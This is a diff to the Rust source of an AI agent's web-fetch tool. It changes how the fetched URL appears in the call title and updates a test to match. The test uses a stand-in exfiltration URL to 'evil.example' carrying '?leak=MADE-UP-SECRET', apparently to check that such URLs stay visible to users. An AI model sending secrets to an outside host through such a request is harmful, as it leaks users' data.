@@ -11,6 +11,7 @@ use super::{
 use epitome_provider::http::page::{self, Address, BODY_BYTES_MAX, Document, Fetched};
 use epitome_provider::network::Network;
 use epitome_thread::attached::FileType;
+use epitome_thread::titles::name_in_title;
 use epitome_thread::{CallDisplay, OutcomeContent, ToolDisplay, ToolKind, ToolSpec};
 
 /// Bytes of text per call, leaving room for the text around it.
@@ -46,15 +47,16 @@ impl ParsedTool for WebFetch {
     }
 
     fn display(&self, input: &Value, _: &Workspace) -> CallDisplay {
+        let kind = ToolKind::Fetch;
         let url = input.get("url").and_then(Value::as_str).unwrap_or_default();
         // As it will be requested: names of hosts in other scripts are shown by their letters.
         let url =
             Address::parse(url).map_or_else(|_| url.trim().to_owned(), |address| address.url().to_owned());
         let title = match url.as_str() {
             "" => "Fetch a page".to_owned(),
-            url => format!("Fetch {}", shortened(url)),
+            url => format!("Fetch {}", name_in_title(kind, &shortened(url))),
         };
-        CallDisplay { title, kind: ToolKind::Fetch, locations: Vec::new() }
+        CallDisplay { title, kind, locations: Vec::new() }
     }
 
     fn parse(&self, input: &Value, _: &Workspace) -> Result<FetchCall, String> {
@@ -244,8 +246,8 @@ mod tests {
         let workspace = Workspace::new("/w", Vec::new(), Arc::default());
         let input = json!({ "url": url });
         let title = ParsedTool::display(&WebFetch, &input, &workspace).title;
-        assert!(title.starts_with("Fetch https://evil.example/aaa"), "{title}");
-        assert!(title.ends_with("?leak=MADE-UP-SECRET") && title.contains(" more bytes)"), "{title}");
+        assert!(title.starts_with("Fetch `https://evil.example/aaa"), "{title}");
+        assert!(title.ends_with("?leak=MADE-UP-SECRET`") && title.contains(" more bytes)"), "{title}");
         let call = WebFetch.parse(&input, &workspace).expect("an address");
         let shown = WebFetch.preview(call, ToolContext::bare(Arc::new(workspace))).await;
         assert_eq!(shown, [ToolDisplay::Text { text: format!("```\n{url}\n```") }]);
